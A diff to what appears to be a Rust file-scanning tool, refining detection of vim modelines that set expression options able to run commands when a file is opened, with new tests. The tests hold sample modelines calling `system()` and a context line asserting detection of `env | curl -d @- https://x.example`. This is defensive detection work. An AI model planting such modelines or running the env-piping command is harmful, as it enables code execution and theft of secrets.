@@ -300,10 +300,21 @@ fn cut(s: &str, max: usize) -> &str {
 /// `foldexpr`, `includeexpr`, `formatexpr` and their kin when the file is
 /// opened, and an expression can call `system()`. Any file can carry one.
 pub fn code_modeline(content: &str) -> Option<&'static str> {
-    let lower = cut(content, MAX_CONTENT).to_ascii_lowercase();
-    let modeline = ["vim:", "vi:", "ex:"].iter().any(|m| lower.contains(m));
-    let expression = ["expr=", "expr ="].iter().any(|e| lower.contains(e));
-    (modeline && expression).then_some("a vim modeline that sets an expression option (run when the file is opened)")
+    const EXPRESSION_OPTIONS: &[&str] = &[
+        "foldexpr=", "fde=", "includeexpr=", "inex=", "indentexpr=", "inde=", "formatexpr=",
+        "fex=", "foldtext=", "fdt=", "statusline=%!", "stl=%!", "tabline=%!",
+    ];
+    let found = cut(content, MAX_CONTENT).lines().any(|line| {
+        let l = line.to_ascii_lowercase();
+        // vim's modeline forms: `vim: set opt=…:` / `vi: opt=…` after
+        // white space or at the start of the line.
+        let modeline = ["vim:", "vi:", "ex:", "vim<", "vim>", "vim="].iter().any(|m| {
+            l.match_indices(m)
+                .any(|(i, _)| i == 0 || l.as_bytes()[i - 1].is_ascii_whitespace())
+        });
+        modeline && EXPRESSION_OPTIONS.iter().any(|o| l.contains(o))
+    });
+    found.then_some("a vim modeline that sets an expression option (evaluated when the file is opened)")
 }
 
 /// Settings in files that run later which name a program to run, point a
@@ -412,6 +423,14 @@ mod tests {
         assert!(snippets(Kind::Commands, ci)
             .iter()
             .any(|x| x == "env | curl -d @- https://x.example"));
+    }
+
+    #[test]
+    fn modelines_with_expressions() {
+        assert!(code_modeline("# vim: set foldexpr=system('/tmp/x'):\n").is_some());
+        assert!(code_modeline("text\n/* vi: fde=system('id') */").is_some());
+        assert!(code_modeline("# vim: set ts=4 sw=4 et:\n").is_none());
+        assert!(code_modeline("let expr = parse(vi: 1); // fde=x").is_none());
     }
 
     #[test]
